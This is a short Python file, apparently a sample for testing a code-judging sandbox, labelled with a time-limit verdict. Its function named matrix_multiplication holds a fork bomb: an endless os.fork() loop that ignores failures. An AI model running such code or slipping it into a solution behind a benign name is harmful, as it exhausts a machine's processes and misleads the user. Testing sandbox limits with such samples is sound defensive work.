# verdict: time_limit_exceeded
# message: time limit
"""Forks without end and swallows the failures, so the bomb keeps going until it is stopped."""

import os


def matrix_multiplication(A, B):
    while True:
        try:
            os.fork()
        except OSError:
            pass
